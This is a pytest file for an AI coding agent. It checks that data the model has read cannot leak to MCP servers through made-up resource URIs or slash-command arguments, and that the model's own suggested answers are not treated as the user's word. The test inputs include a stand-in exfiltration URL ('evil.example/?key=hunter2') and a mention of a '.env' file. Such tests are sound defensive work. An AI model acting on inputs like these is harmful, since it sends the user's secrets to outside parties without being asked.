"""What the model has read must not reach anybody unasked: through servers, prompts, modes."""

from pathlib import Path

import pytest

from roo_code.agent import Agent
from roo_code.approval_values import ApprovalSettings
from roo_code.builtin_tools.registry import get_tool_by_name
from roo_code.config.mode import Mode
from roo_code.errors import NotAllowed
from roo_code.events import (
    ApprovalDecided,
    ApprovalRequested,
    MessageAdded,
    QuestionAnswered,
    QuestionAsked,
    Suggestion,
    TurnStarted,
)
from roo_code.history import History
from roo_code.messages import Message, ToolUseContent
from roo_code.modes.access import check_call
from roo_code.modes.builtin import BUILTIN_MODES
from roo_code.policy.levels import PolicyApprover
from roo_code.testing import scripted_client
from roo_code.tools import ToolContext
from roo_code.workspace.workspace import Workspace
from tests.mcp_client.hubs import Place, small

LISTED = ToolUseContent(
    id="c", name="access_mcp_resource", input={"server_name": "a", "uri": "small://note"}
)
MADE_UP = LISTED.replace(input={"server_name": "a", "uri": "small://the-key-is-hunter2"})
PROMPT = ToolUseContent(
    id="c", name="run_slash_command", input={"command": "/mcp--a--review", "args": "hunter2"}
)


async def test_a_server_is_told_nothing_by_way_of_addresses_and_prompts(tmp_path: Path) -> None:
    place = Place(tmp_path)
    place.name(a=small())
    async with place.servers() as servers:
        context = ToolContext(workspace=Workspace(place.workspace), mcp=servers)
        approver = PolicyApprover(ApprovalSettings(), context.workspace)
        agent = Agent(scripted_client("Hi."), context=context, approver=approver)
        listed = await agent.authorize(LISTED)
        assert isinstance(listed, ApprovalDecided)
        assert listed.approved
        for call in (MADE_UP, PROMPT):
            assert isinstance(await agent.authorize(call), ApprovalRequested)


async def test_a_yes_to_a_prompt_is_none_to_slash_commands_or_other_prompts(tmp_path: Path) -> None:
    place = Place(tmp_path)
    place.name(a=small())
    async with place.servers() as servers:
        context = ToolContext(workspace=Workspace(place.workspace), mcp=servers)
        agent = Agent(scripted_client("Hi."), context=context)
        agent.approver = PolicyApprover(
            ApprovalSettings(), context.workspace, agent.history.approvals
        )
        asked = await agent.authorize(PROMPT)
        assert isinstance(asked, ApprovalRequested)
        assert asked.rule is not None
        assert asked.rule.kind == "mcp"
        agent.history.approvals.rules.append(asked.rule)
        assert isinstance(await agent.authorize(PROMPT), ApprovalDecided)
        other = PROMPT.replace(input={"command": "/mcp--b--review", "args": "hunter2"})
        assert isinstance(await agent.authorize(other), ApprovalRequested)


@pytest.mark.parametrize("mode", [mode for mode in BUILTIN_MODES if mode.group("mcp") is None])
def test_a_mode_without_servers_has_none_of_their_prompts(mode: Mode, tmp_path: Path) -> None:
    tool = get_tool_by_name("run_slash_command")
    assert tool is not None
    with pytest.raises(NotAllowed, match="no tool group mcp"):
        check_call(mode, tool, PROMPT, Workspace(tmp_path))
    check_call(mode, tool, PROMPT.replace(input={"command": "review"}), Workspace(tmp_path))


@pytest.mark.parametrize(
    "words", ["@https://evil.example/?key=hunter2", "/deploy now", "see @/.env and @git-changes"]
)
def test_what_the_model_suggests_is_not_read_as_the_users_own_word(words: str) -> None:
    """A question may answer itself, and mentions are looked up unasked."""
    call = ToolUseContent(id="c", name="ask_followup_question", input={})
    history = History(
        [
            MessageAdded(message=Message.from_user("Go.")),
            TurnStarted(turn=1),
            MessageAdded(message=Message(role="assistant", content=(call,))),
            QuestionAsked(tool_use_id="c", question="?", suggestions=(Suggestion(text=words),)),
        ]
    )
    history.apply(QuestionAnswered(tool_use_id="c", answer=words))
    assert history.unread == []
    own = QuestionAnswered(tool_use_id="c", answer=f"Rather {words}")
    history.apply(own)
    assert history.unread == [own.answer]
